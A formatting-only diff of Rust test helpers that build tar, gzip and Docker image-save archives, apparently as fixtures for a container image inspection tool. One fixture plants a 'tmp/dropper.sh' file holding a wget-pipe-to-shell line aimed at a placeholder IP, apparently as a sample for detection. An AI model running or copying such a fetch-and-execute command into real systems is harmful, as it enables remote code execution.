@@ -26,7 +26,10 @@ fn octal(field: &mut [u8], value: u64) {
 
 fn header(name: &str, kind: u8, size: u64, link: &str) -> [u8; 512] {
     let mut h = [0u8; 512];
-    assert!(name.len() < 100 && link.len() < 100, "test tar names are short");
+    assert!(
+        name.len() < 100 && link.len() < 100,
+        "test tar names are short"
+    );
     h[..name.len()].copy_from_slice(name.as_bytes());
     octal(&mut h[100..108], if kind == b'5' { 0o755 } else { 0o644 });
     octal(&mut h[108..116], 0);
@@ -77,7 +80,10 @@ pub fn export_tar(tag: &str) -> Vec<u8> {
             Entry::File("etc/hostname", hostname.as_bytes()),
             Entry::File("etc/passwd", b"root:x:0:0:root:/root:/bin/sh\n"),
             Entry::Dir("tmp/"),
-            Entry::File("tmp/dropper.sh", b"#!/bin/sh\nwget http://203.0.113.9/x | sh\n"),
+            Entry::File(
+                "tmp/dropper.sh",
+                b"#!/bin/sh\nwget http://203.0.113.9/x | sh\n",
+            ),
         ],
         true,
     )
@@ -96,7 +102,11 @@ fn crc32(data: &[u8]) -> u32 {
     for &b in data {
         crc ^= u32::from(b);
         for _ in 0..8 {
-            crc = if crc & 1 != 0 { (crc >> 1) ^ 0xedb8_8320 } else { crc >> 1 };
+            crc = if crc & 1 != 0 {
+                (crc >> 1) ^ 0xedb8_8320
+            } else {
+                crc >> 1
+            };
         }
     }
     !crc
@@ -124,7 +134,13 @@ pub fn gzip(data: &[u8]) -> Vec<u8> {
 /// An engine <= 24 image save ("docker-legacy") that passes the tool's own digest checks.
 /// Returns the tar and the image ID ("sha256:<config digest>").
 pub fn image_save() -> (Vec<u8>, String) {
-    let layer = tar(&[Entry::Dir("bin/"), Entry::File("bin/busybox", &[0x7f, b'E', b'L', b'F', 2, 1, 1, 0])], true);
+    let layer = tar(
+        &[
+            Entry::Dir("bin/"),
+            Entry::File("bin/busybox", &[0x7f, b'E', b'L', b'F', 2, 1, 1, 0]),
+        ],
+        true,
+    );
     let diff = sha256_hex(&layer);
     let config = serde_json::to_vec(&json!({
         "architecture": "amd64", "os": "linux",
@@ -161,7 +177,9 @@ pub fn image_save() -> (Vec<u8>, String) {
 
 /// Now as RFC 3339 UTC, for `/info` SystemTime.
 pub fn rfc3339_now() -> String {
-    let now = std::time::SystemTime::now().duration_since(std::time::UNIX_EPOCH).unwrap();
+    let now = std::time::SystemTime::now()
+        .duration_since(std::time::UNIX_EPOCH)
+        .unwrap();
     let secs = now.as_secs() as i64;
     let (days, rem) = (secs.div_euclid(86_400), secs.rem_euclid(86_400));
     // Civil date from days since 1970-01-01 (Howard Hinnant's algorithm).
